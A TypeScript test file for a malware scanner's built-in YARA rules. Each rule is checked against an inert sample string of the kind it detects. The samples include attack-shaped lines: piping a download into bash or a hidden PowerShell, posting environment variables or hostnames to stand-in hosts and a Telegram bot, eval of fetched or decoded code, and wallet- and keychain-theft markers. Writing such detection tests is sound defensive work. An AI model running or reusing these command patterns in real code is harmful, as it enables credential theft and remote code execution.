/**
 * The rules that come with the product: each finds an inert sample of what it describes (words and shapes in a row that do
 * nothing), and none finds anything in honest files.
 */
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { readRules } from '@haetae/detect/malware';
import { builtInRules } from './built-in-rules.ts';
import { openYara } from './open-yara.ts';

const yara = openYara();
after(() => yara.close());

const base64 = Buffer.from('console.log("inert sample, does nothing at all")').toString('base64');
const hexUrl = Buffer.from('https://inert.example/sample').toString('hex');

/** The rule, and an inert text of the shape it describes. */
const SAMPLES: readonly (readonly [rule: string, sample: string])[] = [
  [
    'haetae_wallet_extension_theft',
    '["nkbihfbeogaeaoehlefnkodbefgpgknn","ibnejdfjmmkpcnlpebklmnkoeoihofec","bfnaelmomeimhlpmgjnjophhpkkoljpa"]; "Local Extension Settings"',
  ],
  [
    'haetae_browser_profile_theft',
    'join(home, "AppData/Local/Google/Chrome/User Data/Default/Local Extension Settings"); "BraveSoftware"; "Login Data"',
  ],
  ['haetae_wallet_file_theft', 'upload(".config/solana/id.json"); upload("Exodus/exodus.wallet"); new FormData()'],
  ['haetae_keychain_theft', 'fs.createReadStream(home + "/Library/Keychains/login.keychain-db")'],
  ['haetae_beavertail', 'const testPath = 1, UpAppData = 2, UpKeychain = 3; "p2.zip"; "/pdown"'],
  ['haetae_beavertail', 'download(host + "/pdown", "p2.zip"); run(".pyp\\python.exe", home + "/.npl")'],
  [
    'haetae_invisibleferret',
    'def ssh_obj(self): pass\ndef ssh_cmd(self): pass\ndef ssh_clip(self): pass\ndef ssh_env(self): pass',
  ],
  ['haetae_invisibleferret', 'write(home + "/.n2/pay"); write(home + "/.n2/bow")'],
  [
    'haetae_ottercookie',
    'const io = require("socket.io-client"); const { execSync } = require("child_process"); execSync("pbpaste"); // metamask mnemonic',
  ],
  [
    'haetae_ghost_commands',
    'if c == "qwer": pass\nelif c == "asdf": pass\nelif c == "zxcv": pass\nelif c == "vbcx": pass\nelif c == "r4ys": pass',
  ],
  [
    'haetae_clickfix_installer',
    'curl -k -o "/var/tmp/nvidia.zip" https://inert.example/nvidia.zip && nohup sh driver.sh # camera',
  ],
  [
    'haetae_obfuscator_string_array',
    `${Array.from({ length: 40 }, (_, at) => `_0x${(4096 + at).toString(16)}`).join(',')};while(!![]){x=-parseInt(_0x1a2b(0x1f));_0x1a2b['push'](_0x1a2b['shift']())}`,
  ],
  ['haetae_runs_fetched_code', 'axios.get(u).then((r) => eval(r.data))'],
  ['haetae_runs_fetched_code', 'axios.post(u).catch((error) => { eval(error.response.data) })'],
  ['haetae_runs_fetched_code', "fetch(u); const f = new (Function.constructor)('require', res.data.cookie)"],
  ['haetae_runs_decoded_code', `eval(atob("${base64}"))`],
  ['haetae_runs_decoded_code', `eval(Buffer.from('${base64}', 'base64').toString())`],
  ['haetae_runs_decoded_code', 'new Function(atob(process.env.SAMPLE))()'],
  [
    'haetae_hex_decoder_loader',
    `const u = Buffer.from(h, 'hex'); const h = "${hexUrl}"; fetch(u).then(async (r) => eval(await r.text()))`,
  ],
  ['haetae_code_behind_blanks', `module.exports = {};${' '.repeat(300)}global.sample = 1`],
  ['haetae_code_behind_blanks', `}${'\t'.repeat(80)}eval(sample)`],
  [
    'haetae_hidden_child',
    'fs.writeFileSync(os.tmpdir() + "/a", await (await fetch(u)).text()); spawn("node", ["a"], { detached: true, stdio: "ignore", windowsHide: true }).unref()',
  ],
  ['haetae_python_loader', 'exec(zlib.decompress(base64.b64decode(sample)))'],
  [
    'haetae_python_loader',
    "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'sample'))",
  ],
  ['haetae_blockchain_dead_drop', 'provider.send("eth_call", []); const code = String.fromCharCode(1); eval(code)'],
  ['haetae_powershell_hidden', 'powershell -NoProfile -w hidden -c "iwr https://inert.example/a | iex"'],
  ['haetae_powershell_hidden', `powershell.exe -WindowStyle Hidden -enc ${base64}`],
  ['haetae_mshta_remote', 'mshta https://inert.example/a.hta'],
  ['haetae_fetch_into_shell', 'curl -fsSL http://203.0.113.5:1244/a | bash'],
  [
    'haetae_stolen_data_to_chat',
    `fetch("https://api.telegram.org/bot123456789:${'A'.repeat(35)}/sendMessage?text=" + os.hostname())`,
  ],
  ['haetae_environment_taken', 'axios.post("https://inert.example/a", { ...process.env })'],
  [
    'haetae_clipboard_swapper',
    'while True:\n  if re.match("0x[a-fA-F0-9]{40}", t) or re.match("bc1[a-z0-9]+", t): pyperclip.copy(mine)',
  ],
];

for (const [rule, sample] of SAMPLES) {
  test(`${rule} finds what it describes: ${sample.slice(0, 40).replaceAll('\n', ' ')}…`, async () => {
    const { findings } = await yara.findings([{ name: 'sample', bytes: Buffer.from(sample) }], builtInRules());
    assert.ok(
      findings.some((finding) => finding.rule === rule),
      JSON.stringify(findings.map((finding) => finding.rule)),
    );
  });
}

test('every rule has a sample, and says what it is, which technique it shows and how sure it is', () => {
  const sampled = new Set(SAMPLES.map(([rule]) => rule));
  for (const { name, meta } of builtInRules().flatMap(({ text }) => readRules(text))) {
    assert.ok(sampled.has(name), name);
    assert.match(String(meta.technique), /^T\d{4}(\.\d{3})?$/, name);
    assert.ok(typeof meta.description === 'string' && Number(meta.confidence) <= 100, name);
    assert.ok(['error', 'warning', 'note'].includes(String(meta.level)), name);
  }
});

for (const { source, text } of builtInRules()) {
  test(`${source} passes the trial that the rules of others pass, without a word of advice`, async () => {
    const { lint, trial } = await yara.judge(text);
    assert.deepEqual([lint.faults, lint.warnings, trial.outcome], [[], [], 'passed']);
  });
}
